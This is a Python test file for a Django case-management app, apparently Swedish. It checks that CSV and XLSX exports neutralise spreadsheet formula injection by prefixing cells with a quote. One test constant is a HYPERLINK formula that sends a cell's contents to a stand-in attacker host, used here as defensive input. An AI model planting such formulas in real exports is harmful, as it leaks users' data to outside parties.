"""Spreadsheet formula injection (issue 10 item 6): every CSV and XLSX cell that could start a
formula is neutralised with a leading ' (OWASP CSV Injection); numbers stay numbers."""
import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from akta.cases.models import Case, Person
from akta.spreadsheet import csv_cell, csv_dictwriter, csv_writer, neutralise_workbook, xlsx_bytes, xlsx_cell

FORMULA = '=HYPERLINK("http://angripare.example/?d="&A1,"Klicka")'


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", FORMULA, "-Anna"])
def test_text_that_could_start_a_formula_gets_a_quote(text):
    assert csv_cell(text) == "'" + text
    assert xlsx_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Anna", "", "barn_och_unga", "2024-01-01", "a=b", "..", None, True])
def test_other_text_is_unchanged(value):
    assert csv_cell(value) == value
    assert xlsx_cell(value) == value


def test_numbers_stay_numbers():
    for v in (-5, -1.5, Decimal("-12.50"), 0, 7):
        assert csv_cell(v) == v and xlsx_cell(v) == v
    for s in ("-5", "-1.5", "+3", "-0,5", "-1e3"):  # a plain number as text: read as a number, not a formula
        assert csv_cell(s) == s
    assert xlsx_cell(dt.date(2024, 1, 1)) == dt.date(2024, 1, 1)


def test_csv_writers_neutralise_every_field():
    buf = io.StringIO()
    csv_writer(buf).writerow(["=1+1", -3, "ok"])
    w = csv_dictwriter(buf, fieldnames=["a", "b"])
    w.writerow({"a": "@x", "b": "-2"})
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["'=1+1", "-3", "ok"], ["'@x", "-2"]]


def test_workbook_cells_are_text_not_formulas_and_negative_numbers_stay_numbers():
    wb = Workbook()
    wb.active.append([FORMULA, -4, -2.5, "x"])
    wb.create_sheet("Två").append(["+2", "-"])
    neutralise_workbook(wb)
    again = load_workbook(io.BytesIO(xlsx_bytes(wb)))
    a1, b1, c1, d1 = again.active[1]
    assert a1.value == "'" + FORMULA and a1.data_type == "s"
    assert b1.value == -4 and b1.data_type == "n" and c1.value == -2.5
    assert d1.value == "x"
    assert [c.value for c in again["Två"][1]] == ["'+2", "'-"]


# --- the exports themselves ----------------------------------------------------------------------


def _no_live_formula(ws):
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", (c.coordinate, c.value)
            if isinstance(c.value, str):
                assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r")), (c.coordinate, c.value)


def test_indicator_xlsx_and_csv_neutralise_a_formula_case_type(client, bou_user):
    Case.objects.filter(ext_id="C1").update(case_type=FORMULA)
    opened = Case.objects.get(ext_id="C1").opened
    client.force_login(bou_user)
    q = f"?year={opened.year}"
    text = client.get(f"/uppfoljning/indikator/cases_opened/{q}&format=csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    types = [r[1] for r in rows[1:]]
    assert "'" + FORMULA in types and FORMULA not in types
    assert all(not r[3].startswith("'") for r in rows[1:])  # counts untouched
    wb = load_workbook(io.BytesIO(client.get(f"/uppfoljning/indikator/cases_opened/{q}&format=xlsx").content))
    ws = wb["cases_opened"]
    assert "'" + FORMULA in [r[1] for r in ws.iter_rows(min_row=2, values_only=True)]
    for sheet in wb.worksheets:
        _no_live_formula(sheet)
    assert all(isinstance(r[3], int) for r in ws.iter_rows(min_row=2, values_only=True))


def test_bevakningar_csv_neutralises_a_name_starting_with_equals(client, chief, monkeypatch):
    from akta.deadlines import worklist

    monkeypatch.setattr(timezone, "localdate", lambda *a, **k: dt.date(2025, 3, 31))
    worklist.clear_snapshots()
    Person.objects.filter(ext_id="P4").update(name="=1+2 Lisa")
    client.force_login(chief)
    r = client.get("/bevakningar/enhet/?status=alla&format=csv")
    worklist.clear_snapshots()
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    header = rows[0]
    persons = [row[header.index("Person")] for row in rows[1:]]
    assert persons and any(p.startswith("'=1+2 Lisa") for p in persons)
    assert not any(p.startswith("=") for p in persons)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row


def test_reconciliation_reads_a_neutralised_csv_back():
    from akta.followup.indicators import get as indicator
    from akta.followup.reconcile import parse_csv

    data = "area,case_type,sex,count\nbarn_och_unga,'=X(),kvinna,3\n"
    records = parse_csv(data, indicator("cases_opened"))
    assert records[0]["case_type"] == "=X()"


def test_every_export_goes_through_the_shared_writer():
    """A new CSV or XLSX export that bypasses akta.spreadsheet fails here."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    bypass = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bwb\.save\(")
    offenders = [f"{p.relative_to(root)}:{no}" for p in root.rglob("*.py")
                 if "tests" not in p.parts and p.name != "spreadsheet.py"
                 for no, line in enumerate(p.read_text().splitlines(), 1) if bypass.search(line)]
    assert offenders == []
